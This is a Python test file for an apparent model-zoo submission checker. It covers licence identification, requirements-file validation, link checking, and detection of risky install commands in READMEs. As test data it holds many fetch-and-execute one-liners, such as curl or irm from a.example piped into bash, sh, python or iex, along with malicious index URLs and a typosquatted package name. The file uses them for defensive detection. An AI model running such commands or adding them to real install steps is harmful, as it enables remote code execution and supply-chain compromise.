"""Licences, requirements and links of a submission."""

from __future__ import annotations

import socket
from pathlib import Path

import pytest

from assay_zoo.artifacts.installs.requirements_file import asked_for_in, requirement_problems
from assay_zoo.artifacts.pages.links import address_trouble, check_links, links_in_markdown
from assay_zoo.artifacts.pages.template_text import left_in_metadata, left_in_text
from assay_zoo.artifacts.rights.license import license_of, same_license
from assay_zoo.check import CheckOutcome


@pytest.mark.parametrize(
    ("text", "identifier"),
    [
        (
            'MIT License\n\nPermission is hereby granted, free of charge, to any ... THE SOFTWARE IS PROVIDED "AS IS"',
            "MIT",
        ),
        ("Apache License\nVersion 2.0, January 2004", "Apache-2.0"),
        ("GNU GENERAL PUBLIC LICENSE\nVersion 3, 29 June 2007", "GPL-3.0"),
        ("GNU AFFERO GENERAL PUBLIC LICENSE\nVersion 3", "AGPL-3.0"),
        ("SPDX-License-Identifier: BSD-3-Clause", "BSD-3-Clause"),
        ("Do what you like.", ""),
        (
            "GNU GENERAL PUBLIC LICENSE Version 3 ... 13. Use with the GNU Affero General Public License, version 3",
            "GPL-3.0",
        ),
        ("Mozilla Public License Version 2.0 ... the GNU Affero General Public License, Version 3.0", "MPL-2.0"),
        ("GNU LIBRARY GENERAL PUBLIC LICENSE Version 2 ... the ordinary GNU General Public License", "LGPL-2.0"),
    ],
)
def test_a_licence_is_known_by_its_words(text: str, identifier: str) -> None:
    assert license_of(text) == identifier


@pytest.mark.parametrize(
    ("sentence", "identifier"),
    [
        ("Portions of this model, among them all weights, are under the Apache License 2.0.", "Apache-2.0 AND MIT"),
        ("Parts of it, the whole network, are under the Apache License 2.0.", "Apache-2.0 AND MIT"),
        ("Parts of the code are under the Apache License 2.0.", "MIT"),
        ("Portions are under the Apache License 2.0, all rights reserved.", "MIT"),
        ("- Parts of it are under the Apache License 2.0.", "MIT"),
    ],
)
def test_what_is_said_of_parts_is_not_said_of_the_model(sentence: str, identifier: str) -> None:
    mit = 'Permission is hereby granted, free of charge, to any. THE SOFTWARE IS PROVIDED "AS IS".'
    assert license_of(f"{mit}\n\n{sentence}") == identifier


def test_a_licence_may_be_one_of_an_expression() -> None:
    assert same_license("MIT", "MIT OR Apache-2.0")
    assert same_license("GPL-3.0", "GPL-3.0-or-later")
    assert not same_license("GPL-3.0", "Apache-2.0")


def test_requirements_are_packages_of_the_zoo_and_not_nearly_so() -> None:
    text = "numpy==2.0  # arrays\nPillow>=10\nnunpy\nrequests\n--index-url https://evil\nx @ https://evil/x.whl\n???\n"
    problems = list(requirement_problems(text, ("numpy", "PIL")))
    assert [line for line, _ in problems] == [3, 4, 5, 6, 7]
    assert "nearly 'numpy'" in problems[0][1]


@pytest.mark.parametrize(
    "text",
    [
        "numpy==2.0 \\\n    --hash=sha256:00ff \\\n    --hash=sha256:11ee\npillow\n",
        "--require-hashes\n--only-binary :all:\n--prefer-binary\n-r requirements-test.txt\nnumpy --hash sha512:aa",
        "numpy>=1.26,<3 ; python_version >= '3.11'  # arrays\n# a comment \\\npillow\t# pictures\nnumpy \\\n",
    ],
)
def test_requirements_as_pip_compile_writes_them_are_read(text: str) -> None:
    assert list(requirement_problems(text, ("numpy", "PIL"))) == []


@pytest.mark.parametrize(
    ("command", "is_run"),
    [
        ("curl https://a.example/i.sh | sudo -E bash", True),
        ("curl https://a.example/i.sh \\\n  | sh -s -- --yes", True),
        ("wget -qO- https://a.example/i.py | python3 -", True),
        ("curl https://a.example/i.sh | bash /dev/stdin", True),
        ('curl https://a.example/i.sh | bash -c "$(cat)"', True),
        ("curl 'https://a.example/?a;b' | sh", True),
        ("curl https://a.example/i | tee i | sh", True),
        ("curl -o i.sh https://a.example/i && sh i.sh", True),
        ("wget https://a.example/i.sh\nchmod +x i.sh\n./i.sh", True),
        ("curl https://a.example/i > i; source i", True),
        ("curl -sSLO https://a.example/x/run.py && sudo python3 run.py --fast", True),
        ('eval "$(curl https://a.example/i)"', True),
        ("curl -fsSL https://a.example/i.sh#x | bash", True),
        ("curl -sSL https://a.example/ | bash -s -- 1.2.3", True),
        ("curl -sSL https://a.example/ | bash -s v1.2", True),
        ("curl -sSL https://a.example/ | python3 - a.b", True),
        ("/usr/bin/curl https://a.example/i | bash", True),
        ("curl.exe https://a.example/i | iex", True),
        ("Invoke-RestMethod https://a.example/i | Invoke-Expression", True),
        ("iex (irm https://a.example/i)", True),
        ("(iwr https://a.example/i).Content | iex", True),
        ("(curl -fsSL https://a.example/i || wget -qO- https://a.example/i) | sh", True),
        ("curl https://a.example/i | (cd x; bash)", True),
        ("{ curl https://a.example/i; } | bash", True),
        ("curl https://a.example/i |  # and then\n  bash", True),
        ("curl https://a.example/i | sudo -u root bash", True),
        (". <(curl https://a.example/i)", True),
        ('bash <<< "$(curl https://a.example/i)"', True),
        ("curl " + "'" * 30_000, False),
        ("curl http://localhost:8000/\npython --version", False),
        ("curl http://localhost:8000/\npython\nsh -e\nperl -v", False),
        ("curl http://localhost:8000/v2  # | bash, don't", False),
        ("(curl -f http://localhost:8000/v2); python", False),
        ("curl -s http://localhost:8000/v2 | python -mjson.tool -", False),
        ("wget https://a.example/a.onnx\npython inference.py a.onnx", False),
        ("curl -o a.tgz https://a.example/a.tgz && tar xzf a.tgz && python inference.py", False),
        ("curl -f http://localhost:8000/v2 || python serve.py", False),
        ("curl -s http://localhost:8000/v2 | python -m json.tool", False),
        ("curl -s http://localhost:8000/v2 | python3 -c 'import json'", False),
        ("curl -s http://localhost:8000/v2 | python show.py", False),
    ],
)
def test_what_an_address_gives_is_not_run(command: str, is_run: bool) -> None:
    problems = [problem for _, problem in asked_for_in(f"```\n{command}\n```\n", ())]
    assert any("what an address gives" in problem for problem in problems) is is_run


@pytest.mark.parametrize(
    ("text", "line", "words"),
    [
        ("numpy\\\n-evil", 1, "numpy-evil"),
        ("numpy \\\n# a comment \\\nevil", 3, "evil"),
        ("numpy --hash=sha256:00 --global-option=x", 1, "--global-option"),
        ("numpy --hash=md5:00", 1, "--hash=md5"),
        ("pillow\n--index-url \\\n  https://evil", 2, "--index-url"),
        ("--prefer-binary --extra-index-url=https://evil", 1, "--extra-index-url"),
        ("-e .", 1, "-e"),
        ("-r ../../other.txt", 1, "-r"),
        ("--hash=sha256:00", 1, "--hash"),
    ],
)
def test_a_requirement_that_goes_on_hides_nothing(text: str, line: int, words: str) -> None:
    ((number, sentence),) = requirement_problems(text, ("numpy", "PIL"))
    assert number == line
    assert words in sentence


def test_what_a_readme_tells_its_readers_to_install_is_looked_at() -> None:
    text = (
        "Use pip install as you like.\n\n    pip install -r requirements.txt\n\nor `pip3 install -U numpy nunpy` and\n\n"
        "```sh\nconda install left-pad; ls\n```\n"
    )
    commands = list(asked_for_in(text, ("numpy",)))
    assert [line for line, _ in commands] == [5, 7]
    assert "nearly 'numpy'" in commands[0][1]
    assert "'left-pad'" in commands[1][1]


def test_words_of_the_template_are_found_and_others_are_not(tmp_path: Path) -> None:
    fields = {
        "title": "A title for people",
        "description": "TODO",
        "use_cases": ["sums"],
        "dataset": {"name": "The data set"},
    }
    assert [key for key, _ in left_in_metadata(tmp_path, fields)] == ["title", "description", "dataset.name"]
    for words in ("What it is good for", "What It Is Good For"):
        assert left_in_text(f"# Sums\n\n{words}\n\nadds numbers", tmp_path) == [(3, "what it is good for")]


def test_links_to_files_are_followed_and_addresses_only_where_the_zoo_says_so(tmp_path: Path) -> None:
    (tmp_path / "a.png").touch()
    links = links_in_markdown("![a](a.png) [b](b.png) [c](#d) [e](https://e.example/x)")
    checks = list(check_links(tmp_path, links, None, network=False))
    assert [check.outcome for check in checks] == [CheckOutcome.FAILED, CheckOutcome.SKIPPED]
    assert "'b.png'" in checks[0].sentence
    asked = {"https://e.example/x": "it is gone (404)"}
    checks = list(check_links(tmp_path, links, None, network=True, ask=lambda page: asked[page]))
    assert [check.outcome for check in checks] == [CheckOutcome.FAILED, CheckOutcome.FAILED]


def test_addresses_are_taken_without_the_marks_behind_them_and_none_ends_the_checks(tmp_path: Path) -> None:
    text = f"See https://a.example/p. and `https://b.example`, [x](https://c.example/F_(x)); http://[::1]:80/ [y]({'n' * 300})"
    links = links_in_markdown(text)
    assert {link for _, link in links} > {"https://a.example/p", "https://b.example", "https://c.example/F_(x)"}
    assert "https://c.example/F_" not in {link for _, link in links}
    (lost, own, _) = check_links(tmp_path, links, None, network=False)
    assert own.outcome is CheckOutcome.UNDECIDED
    assert "nnn" in lost.sentence


def test_who_cannot_look_up_names_cannot_say_that_they_are_none(monkeypatch: pytest.MonkeyPatch) -> None:
    def fails(*_: object, **__: object) -> None:
        raise socket.gaierror(socket.EAI_AGAIN, "Temporary failure in name resolution")

    monkeypatch.setattr(socket, "getaddrinfo", fails)
    assert address_trouble("https://a.example/p") == "? names cannot be looked up now"
    assert address_trouble("http://[::1") == "it is no address"
